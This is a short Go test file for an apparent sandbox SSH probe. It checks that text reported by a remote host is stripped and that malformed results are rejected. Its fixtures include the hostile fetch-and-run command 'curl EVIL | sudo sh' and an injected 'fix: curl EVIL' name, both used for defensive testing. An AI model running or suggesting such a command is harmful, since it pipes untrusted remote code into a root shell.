package ssh

import (
	"strings"
	"testing"

	"ringfence.dev/ringfence/internal/sandbox/hostfacts"
)

// No text of the other machine is advice of ours.
func TestProbedSaysNothing(t *testing.T) {
	var in []hostfacts.Result
	for _, name := range hostfacts.Tried() {
		in = append(in, hostfacts.Result{Name: name, Status: hostfacts.Degraded, Detail: "EVIL", Fix: "curl EVIL | sudo sh"})
	}
	out, err := probed(in)
	if err != nil || len(out) != len(in) {
		t.Fatal(out, err)
	}
	for _, r := range out {
		if strings.Contains(r.Detail+r.Fix, "EVIL") {
			t.Errorf("%+v", r)
		}
	}
	in[1].Name = "fix: curl EVIL"
	if _, err := probed(in); err == nil {
		t.Error("a wall of its own")
	}
	if _, err := probed(in[:3]); err == nil {
		t.Error("three walls")
	}
	in[1] = hostfacts.Result{Name: hostfacts.Tried()[1], Status: "fine"}
	if _, err := probed(in); err == nil {
		t.Error("a state of its own")
	}
}
